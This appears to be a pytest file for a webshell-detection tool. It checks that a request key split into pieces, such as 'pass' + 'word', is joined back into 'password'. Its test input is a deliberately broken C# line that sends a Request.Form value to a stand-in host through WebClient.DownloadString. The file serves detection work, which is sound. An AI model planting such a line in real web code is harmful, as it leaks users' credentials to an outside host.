"""The name by which a request is asked for a value."""

from __future__ import annotations

import pytest

from tests.builders.inert import analyse
from webshellhunt.analysis.structure.request_keys import request_key


@pytest.mark.parametrize(
    ("asked", "key"),
    [
        ('Request.Form["PassWord"]', "password"),
        ('Request.Form["pass" + "word"]', "password"),
        ("Request.Form[name]", ""),
        ("Request.QueryString", ""),
    ],
)
def test_a_name_in_pieces_is_joined(asked: str, key: str) -> None:
    analysis = analyse(f'new System.Net.WebCl·ient().DownloadStr·ing("http://a.example/?" + {asked});', "c#")
    assert {request_key(flow, analysis.index, analysis.constants) for flow in analysis.flows} == {key}
